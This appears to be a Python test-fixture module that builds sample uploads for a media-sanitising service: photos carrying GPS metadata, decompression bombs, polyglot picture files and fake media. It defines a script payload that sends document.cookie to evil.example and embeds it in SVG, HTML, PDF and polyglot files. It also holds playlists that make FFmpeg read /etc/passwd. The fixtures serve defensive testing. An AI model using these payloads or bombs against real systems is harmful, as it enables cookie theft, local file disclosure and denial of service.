"""Files as young people's phones make them, and as nobody should."""

import array
import io
import math
import struct
import zipfile
import zlib
from functools import cache

import av
from av.audio.frame import AudioFrame
from av.audio.stream import AudioStream
from PIL import Image, ImageDraw

_GPS, _ORIENTATION, _CAMERA = 0x8825, 0x0112, 0x0110
CAMERA = "Canary Phone 9"
WORDS = "canary words of a comment"
_RATE = 48_000


def photograph(width: int = 640, height: int = 480, *, turned: bool = False) -> bytes:
    """A JPEG as a phone makes it: where it was taken, with what, and held how. Its left half is
    red; `turned`: the phone was held upright, so that it is to be shown turned by a quarter."""
    image = Image.new("RGB", (width, height), "white")
    ImageDraw.Draw(image).rectangle((0, 0, width // 2, height), fill="red")
    exif = Image.Exif()
    exif[_CAMERA] = CAMERA
    if turned:
        exif[_ORIENTATION] = 6
    place = exif.get_ifd(_GPS)
    place[1], place[2] = "N", (51.0, 30.0, 26.0)
    place[3], place[4] = "W", (0.0, 7.0, 39.0)
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, comment=WORDS.encode())
    return out.getvalue()


def drawing(width: int = 300, height: int = 200) -> bytes:
    """A PNG as our canvas makes it: lines on nothing, and words that a program put in."""
    from PIL.PngImagePlugin import PngInfo  # noqa: PLC0415 - here alone

    image = Image.new("RGBA", (width, height), (0, 0, 0, 0))
    ImageDraw.Draw(image).line((10, 10, width - 10, height - 10), fill=(0, 0, 255, 255), width=8)
    about = PngInfo()
    about.add_text("Comment", WORDS)
    out = io.BytesIO()
    image.save(out, "PNG", pnginfo=about)
    return out.getvalue()


def saved(kind: str) -> bytes:
    """A small picture of another kind."""
    out = io.BytesIO()
    Image.new("RGB", (40, 30), "green").save(out, kind)
    return out.getvalue()


def bomb(side: int = 12_000) -> bytes:
    """A PNG of so many pixels each way, all of one colour: some kilobytes that would unpack to
    hundreds of megabytes."""
    packer, packed = zlib.compressobj(9), b""
    row = b"\0" + b"\0" * (side * 3)
    for _row in range(side):
        packed += packer.compress(row)
    packed += packer.flush()
    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        _chunk(name, data) for name, data in ((b"IHDR", head), (b"IDAT", packed), (b"IEND", b""))
    )


def text_bomb() -> bytes:
    """A small picture with a comment that unpacks to a gigabyte."""
    plain, packer = drawing(20, 20), zlib.compressobj(9)
    packed = b"".join(packer.compress(b"a" * 1_000_000) for _ in range(1_000)) + packer.flush()
    return plain[:33] + _chunk(b"zTXt", b"Comment\0\0" + packed) + plain[33:]


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"


def polyglots() -> dict[str, bytes]:
    """Pictures that are something else besides."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("evil.html", SCRIPT)
    return {
        "picture and page": photograph() + SCRIPT,
        "picture and archive": drawing() + archive.getvalue(),
        "page in a comment": photograph().replace(WORDS.encode(), SCRIPT[: len(WORDS)], 1),
    }


def no_pictures() -> dict[str, bytes]:
    """What calls itself a picture and is none."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("picture.png", drawing())
    return {
        "svg": b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>",
        "xml": b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>",
        "page": b"<!doctype html>" + SCRIPT,
        "zip as png": archive.getvalue(),
        "pdf": b"%PDF-1.7\n" + SCRIPT,
        "program": b"\x7fELF" + bytes(200),
        "bmp": saved("BMP"),
        "tiff": saved("TIFF"),
        "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n",
        "words": b"hello",
        "sound": sound("mp3"),
    }


@cache
def sound(kind: str = "webm", seconds: float = 1.0, *, title: str = WORDS) -> bytes:
    """A tone as recorders give it: `webm` Chrome's and Firefox's, `mp4` Safari's, `ogg` Telegram's,
    `wav`, `mp3`, `flac`, `adts` others'. Its title is a tag, which is to be gone."""
    codec = {"webm": "libopus", "ogg": "libopus", "mp4": "aac", "adts": "aac", "mp3": "libmp3lame",
             "wav": "pcm_s16le", "flac": "flac"}[kind]  # fmt: skip
    out = io.BytesIO()
    with av.open(out, "w", format=kind) as file:
        file.metadata["title"] = title
        stream = file.add_stream(codec, rate=_RATE, layout="mono")
        assert isinstance(stream, AudioStream)
        if seconds > 60:
            stream.bit_rate = 16_000  # as Telegram's own
        resampler = av.AudioResampler(format=stream.format, layout="mono", rate=_RATE)
        step = _RATE // 10
        tone = array.array("h", (int(9000 * math.sin(i / 12)) for i in range(step))).tobytes()
        for start in range(0, int(seconds * _RATE), step):
            frame = AudioFrame(format="s16", layout="mono", samples=step)
            frame.planes[0].update(tone)
            frame.sample_rate, frame.pts = _RATE, start
            for one in resampler.resample(frame):
                file.mux(stream.encode(one))
        for one in resampler.resample(None):
            file.mux(stream.encode(one))
        file.mux(stream.encode(None))
    return out.getvalue()


@cache
def film() -> bytes:
    """A second of moving pictures with sound."""
    out = io.BytesIO()
    with av.open(out, "w", format="webm") as file:
        seen = file.add_stream("libvpx", rate=10)
        seen.width, seen.height, seen.pix_fmt = 64, 48, "yuv420p"
        heard = file.add_stream("libopus", rate=_RATE, layout="mono")
        for number in range(10):
            picture = av.VideoFrame(64, 48, "yuv420p")
            picture.pts = number
            file.mux(seen.encode(picture))
        quiet = AudioFrame(format=heard.format.name, layout="mono", samples=960)
        for plane in quiet.planes:
            plane.update(bytes(plane.buffer_size))
        quiet.sample_rate = _RATE
        file.mux(heard.encode(quiet))
        file.mux(seen.encode(None))
        file.mux(heard.encode(None))
    return out.getvalue()


def no_sounds() -> dict[str, bytes]:
    """What calls itself sound and is none. FFmpeg would read lists and fetch what they name."""
    return {
        "list of addresses": b"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nfile:///etc/passwd\n",
        "list of files": b"ffconcat version 1.0\nfile /etc/passwd\n",
        "xspf": b"<?xml version='1.0'?><playlist/>",
        "page": b"<!doctype html>" + SCRIPT,
        "zip": b"PK\x03\x04" + bytes(60),
        "picture": drawing(),
        "film": film(),
    }
